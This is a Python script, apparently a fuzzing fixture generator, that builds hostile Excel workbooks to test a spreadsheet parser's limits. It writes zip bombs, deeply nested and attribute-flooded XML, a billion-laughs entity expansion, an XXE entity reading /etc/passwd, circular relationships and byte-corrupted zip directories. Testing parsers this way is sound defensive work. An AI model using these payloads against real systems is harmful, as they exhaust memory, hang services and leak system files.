"""Makes workbooks that want to fill the memory or run for ever: python hostile.py FOLDER"""
import sys, zipfile, zlib
from pathlib import Path

folder = Path(sys.argv[1])
root = Path(__file__).resolve().parents[2]
plain = dict(piece.split("\n", 1) for piece in (root / "fuzz/seeds/workbook/plain").read_text().split("=== ")[1:])
SHEET, STRINGS, MAIN = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
SPACE = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def write(name, changes, packed=zipfile.ZIP_DEFLATED):
    with zipfile.ZipFile(folder / name, "w", packed, compresslevel=9) as archive:
        for part, text in {**plain, **changes}.items():
            archive.writestr(part, text)


def sheet(rows):
    return f"<worksheet {SPACE}><sheetData>{rows}</sheetData></worksheet>"


def full(piece, before="", after="", size=16_000_000):
    return before + piece * ((size - len(before) - len(after)) // len(piece)) + after


TEXT_CELL = '<c t="s"><v>0</v></c>'
zeros = bytes(300 << 20)
write("bomb-of-a-sheet.xlsx", {SHEET: zeros})
write("bomb-of-strings.xlsx", {STRINGS: zeros})
# Pictures are not unpacked, so this one is read.
write("read-bomb-of-a-picture.xlsx", {"xl/media/image1.png": zeros})
write("many-parts.xlsx", {f"xl/worksheets/sheet{number}.xml": sheet("") for number in range(2, 3000)})
lists = {f"xl/_rels/{number}.xml.rels": full("<Relationship/>", '<Relationships>', "</Relationships>", 3_000_000)
         for number in range(9)}
write("many-lists.xlsx", lists)

cells = full("<c/>", f"<worksheet {SPACE}><sheetData><row>", "</row></sheetData></worksheet>")
write("cells-in-a-row.xlsx", {SHEET: cells})
write("cells-in-rows.xlsx", {SHEET: sheet("".join(f"<row>{'<c><v>1</v></c>' * 1000}</row>" for _ in range(700)))})
write("rows.xlsx", {SHEET: full("<row/>", f"<worksheet {SPACE}><sheetData>", "</sheetData></worksheet>")})
write("deep.xlsx", {SHEET: full("<a>")})
write("deep-in-a-cell.xlsx", {SHEET: full("<a>", f"<worksheet {SPACE}><sheetData><row>")})
write("attributes.xlsx", {SHEET: sheet("<row " + " ".join(f'a{number}=""' for number in range(1_000_000)) + "/>")})
write("same-attribute.xlsx", {SHEET: sheet("<row " + 'a="" ' * 2_000_000 + "/>")})
write("families.xlsx", {SHEET: f"<worksheet {SPACE} " + " ".join(
    f'xmlns:a{number}="b"' for number in range(700_000)) + "/>"})
write("looks.xlsx", {"xl/styles.xml": full("<xf/>", f"<styleSheet {SPACE}><cellXfs>", "</cellXfs></styleSheet>")})
code = "#" * 250 + "0" * 250
write("read-forms.xlsx", {
    "xl/styles.xml": f'<styleSheet {SPACE}><numFmts><numFmt numFmtId="170" formatCode="{code}.{code}"/></numFmts>'
                     '<cellXfs><xf numFmtId="170"/></cellXfs></styleSheet>',
    SHEET: sheet("".join(f"<row>{'<c><v>1</v></c>' * 100}</row>" for _ in range(50)))})
write("merged.xlsx", {SHEET: full('<mergeCell ref="A1:B2"/>', f"<worksheet {SPACE}><sheetData/><mergeCells>",
                                  "</mergeCells></worksheet>")})
write("comment.xlsx", {SHEET: full("-", f"<worksheet {SPACE}><!", ">")})
write("read-one-attribute.xlsx", {SHEET: sheet('<row a="' + "x" * 15_000_000 + '"/>')})
write("letters.xlsx", {STRINGS: f"<sst {SPACE}><si><t>" + "&#65;" * 3_000_000 + "</t></si></sst>",
                       SHEET: sheet(f"<row>{TEXT_CELL * 1000}</row>")})
# A text of a million letters in each of a hundred thousand cells.
write("one-text-everywhere.xlsx", {
    STRINGS: f"<sst {SPACE}><si><t>{'x' * 1_000_000}</t></si></sst>",
    SHEET: sheet("".join(f"<row>{TEXT_CELL * 1000}</row>" for _ in range(100)))})
write("long-text.xlsx", {STRINGS: f"<sst {SPACE}><si><t>{'x' * 15_000_000}</t></si></sst>"})
laughs = "".join(f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 12))
write("laughs.xlsx", {MAIN: f'<!DOCTYPE a [<!ENTITY a0 "ha">{laughs}]>' + plain[MAIN].replace('"s"', '"&a11;"')})
write("file.xlsx", {STRINGS: f'<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]><sst {SPACE}><si><t>&f;</t></si></sst>'})
loop = plain["xl/_rels/workbook.xml.rels"]
write("circle.xlsx", {"xl/_rels/workbook.xml.rels": loop.replace("worksheets/sheet1.xml", "workbook.xml"),
                      MAIN: plain[MAIN].replace("</sheets>", '<sheet name="t" sheetId="2" r:id="r1"/></sheets>')})
write("many-sheets.xlsx", {MAIN: plain[MAIN].replace("</sheets>", "".join(
    f'<sheet name="s{number}" sheetId="2" r:id="r1"/>' for number in range(100_000)) + "</sheets>")})
write("stored.xlsx", {STRINGS: f"<sst {SPACE}><si><t>" + "x" * 15_000_000 + "</t></si></sst>"}, zipfile.ZIP_STORED)


def alter(name, change):
    """The plain workbook with its bytes changed."""
    write(name, {})
    (folder / name).write_bytes(bytes(change(bytearray((folder / name).read_bytes()))))


def lie(archive):
    """The directory says that the sheet has three bytes; it has 300 MB."""
    head = archive.index(b"PK\1\2", archive.index(b"PK\1\2") + 1)
    while SHEET.encode() not in archive[head:head + 46 + len(SHEET)]:
        head = archive.index(b"PK\1\2", head + 1)
    archive[head + 24:head + 28] = (3).to_bytes(4, "little")
    return archive


write("lying.xlsx", {SHEET: zeros})
(folder / "lying.xlsx").write_bytes(bytes(lie(bytearray((folder / "lying.xlsx").read_bytes()))))


def quine_like(archive):
    """Every entry of the directory leads to the same packed bytes."""
    first = archive.index(b"PK\1\2")
    start, at = archive[first + 42:first + 46], first
    while at >= 0:
        archive[at + 42:at + 46] = start
        at = archive.find(b"PK\1\2", at + 1)
    return archive


alter("overlapping.xlsx", quine_like)
alter("cut.xlsx", lambda archive: archive[:-30])
alter("only-a-start.xlsx", lambda archive: archive[:4])
alter("count.xlsx", lambda archive: archive[:-12] + b"\xff\xff" + archive[-10:])
